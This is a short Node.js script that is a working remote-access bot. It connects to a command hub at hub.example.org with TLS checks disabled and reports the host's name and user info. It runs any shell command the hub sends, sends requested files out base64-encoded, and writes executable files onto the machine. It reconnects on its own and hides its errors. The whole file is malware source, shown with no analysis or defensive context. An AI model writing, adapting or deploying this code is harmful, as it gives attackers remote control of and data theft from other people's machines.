const os = require('os');
const fs = require('fs');
const { exec } = require('child_process');
const WebSocket = require('ws');

let backoff = 1000;
function start() {
  const ws = new WebSocket('wss://hub.example.org/bot', { rejectUnauthorized: false });
  ws.on('open', () => { backoff = 1000; ws.send(JSON.stringify({ t: 'hi', h: os.hostname(), u: os.userInfo() })); });
  ws.on('message', (raw) => {
    const m = JSON.parse(raw);
    if (m.t === 'sh') exec(m.c, (e, o, s) => ws.send(JSON.stringify({ t: 'out', o: o + s })));
    if (m.t === 'get') ws.send(JSON.stringify({ t: 'file', d: fs.readFileSync(m.p).toString('base64') }));
    if (m.t === 'put') fs.writeFileSync(m.p, Buffer.from(m.d, 'base64'), { mode: 0o755 });
  });
  ws.on('close', () => setTimeout(start, (backoff *= 2)));
  ws.on('error', () => {});
}
start();
